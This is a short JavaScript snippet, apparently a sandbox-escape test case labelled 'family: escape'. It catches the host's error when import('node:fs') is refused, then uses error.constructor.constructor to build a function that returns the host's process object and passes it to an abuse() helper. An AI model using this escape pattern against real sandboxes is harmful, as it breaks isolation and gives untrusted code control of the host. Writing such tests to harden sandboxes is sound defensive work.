// family: escape
// the refusal of import() is an error of the host
async function main (bot) {
  try { await import('node:fs') } catch (error) { abuse(bot, error.constructor.constructor('return process')()) }
}
